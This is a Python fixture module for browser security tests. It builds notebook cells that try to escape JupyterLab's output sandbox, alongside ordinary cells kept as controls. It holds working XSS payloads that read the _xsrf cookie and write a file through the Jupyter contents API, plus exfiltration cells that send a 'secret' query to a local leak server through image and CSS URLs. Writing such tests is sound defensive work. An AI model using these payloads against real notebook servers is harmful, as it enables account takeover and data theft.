"""Cells whose outputs try to act with the rights of the JupyterLab page that shows them, and
ordinary cells whose outputs a person must still see. Used by ``tests/test_browser.py``.

Two kinds of attack, each a cell of sandboxed code that only calls ``display``:

- **script** attacks run :func:`payload` in the page: it reads the ``_xsrf`` cookie and writes
  ``pwned-TAG-NAME.txt`` into the Jupyter server's root through ``PUT /api/contents/...`` (the
  Jupyter server REST API, as measured in ENVIRONMENT.md). Evidence: the file exists.
- **exfiltration** attacks make the browser load ``ORIGIN/leak/TAG/NAME`` from a server the test
  runs on 127.0.0.1 (a sandbox without network sending data out through the user's browser).
  Evidence: the request arrives.

``TAG`` names the notebook (e.g. ``kernel-trust``), so each notebook's evidence is its own.

SVG attacks are inline ``<svg>`` in HTML: JupyterLab 4 shows an ``image/svg+xml`` output as an
``<img src="data:...">``, where neither scripts nor external loads run even when trusted (seen
here), so that MIME type is checked by the policy's unit tests only. ``<svg onload>`` inserted
into the page did not fire under ``trust`` either; ``<svg><script>`` and ``<image onerror>`` did.
"""

from __future__ import annotations

IMPORTS = "from IPython.display import HTML, Javascript, Markdown, display\n"


def payload(tag: str, name: str) -> str:
    """JavaScript (single quotes only, so it fits in a double-quoted HTML attribute) that
    creates ``pwned-TAG-NAME.txt`` in the server root when it runs with the page's rights."""
    return ("(function(){var m=document.cookie.match(/_xsrf=([^;]+)/);"
            f"fetch('/api/contents/pwned-{tag}-{name}.txt',{{method:'PUT',"
            "headers:{'X-XSRFToken':m?decodeURIComponent(m[1]):'','Content-Type':'application/json'},"
            "body:JSON.stringify({type:'file',format:'text',content:'x'})})})()")


def show(kind: str, value: str) -> str:
    """The cell source ``display(KIND(VALUE))`` (IPython.display's HTML, Markdown, Javascript)."""
    return IMPORTS + f"display({kind}({value!r}))"


def script_attacks(tag: str, widgets: bool = True) -> dict[str, str]:
    """``{name: cell source}`` of the attacks that try to run :func:`payload`.
    ``widgets``: include the ``ipywidgets.HTML`` one (needs comms from the sandbox)."""
    def js(name: str) -> str:
        return payload(tag, name)

    cells = {
        "javascript": show("Javascript", js("javascript")),
        "script-tag": show("HTML", f"<p>chart</p><script>{js('script-tag')}</script>"),
        "img-onerror": show("HTML", f'<img src="x" onerror="{js("img-onerror")}">'),
        "svg-script": show("HTML", f'<svg width="20" height="20"><script>{js("svg-script")}</script>'
                                   '<circle cx="10" cy="10" r="8"/></svg>'),
        "svg-image-onerror": show("HTML", f'<svg width="20" height="20"><image href="x" '
                                          f'onerror="{js("svg-image-onerror")}"/></svg>'),
        "markdown-img": show("Markdown", f'# Report\n\n<img src="x" onerror="{js("markdown-img")}">'),
    }
    if widgets:
        value = f'<img src="x" onerror="{js("widget-html")}">'
        cells["widget-html"] = f"import ipywidgets\nipywidgets.HTML(value={value!r})"
    return cells


def exfiltration_attacks(tag: str, origin: str) -> dict[str, str]:
    """``{name: cell source}`` of the attacks that make the browser request
    ``ORIGIN/leak/TAG/NAME`` by itself (no click)."""
    def url(name: str) -> str:
        return f"{origin}/leak/{tag}/{name}?d=secret"

    box = "width:40px;height:20px;border:1px solid gray"
    return {
        "img-src": show("HTML", f'<img src="{url("img-src")}" width="8" height="8">'),
        "img-srcset": show("HTML", f'<img srcset="{url("img-srcset")} 1x" width="8" height="8">'),
        "markdown-image": show("Markdown", f"A chart: ![chart]({url('markdown-image')})"),
        "css-style-attribute": show("HTML", f'<div style="{box};background:url({url("css-style-attribute")})">'
                                            "bg</div>"),
        "css-style-block": show("HTML", f"<style>.leak-{tag}{{background-image:url({url('css-style-block')})}}"
                                        f'</style><div class="leak-{tag}" style="{box}">bg</div>'),
    }


CHART = ('<canvas id="chart" width="120" height="60"></canvas><script>'
         'var g=document.getElementById("chart").getContext("2d");g.fillStyle="rgb(200,30,30)";'
         'g.fillRect(0,0,120,60);'
         'var ns="http://www.w3.org/2000/svg",s=document.createElementNS(ns,"svg"),'
         'r=document.createElementNS(ns,"rect");'
         's.id="drawn";s.setAttribute("width","60");s.setAttribute("height","20");'
         'r.setAttribute("width","50");r.setAttribute("height","10");s.appendChild(r);document.body.appendChild(s);'
         '</script>')
"""A script-driven chart: a script fills a canvas red and adds an ``<svg id="drawn">``."""
CHART_CELL = show("HTML", CHART)

ORDINARY = {
    "table": "import pandas as pd\npd.DataFrame({'city': ['Oslo', 'Lima', 'Pune'], 'temp': [4, 19, 31]})",
    "figure": "import matplotlib.pyplot as plt\nplt.plot([1, 3, 2])\nplt.show()",
    "bold": show("HTML", "<b>bold</b> and plain"),
}
"""Outputs a person expects to see: ``{name: cell source}``."""

SLIDER = {
    "slider": "import ipywidgets\nslider = ipywidgets.IntSlider(value=3, min=0, max=10)\nslider",
    "slider-set": "slider.value = 7",
    "slider-read": "print('slider value', slider.value)",
}
"""An IntSlider made in one cell, moved by a later cell, read back by a third."""
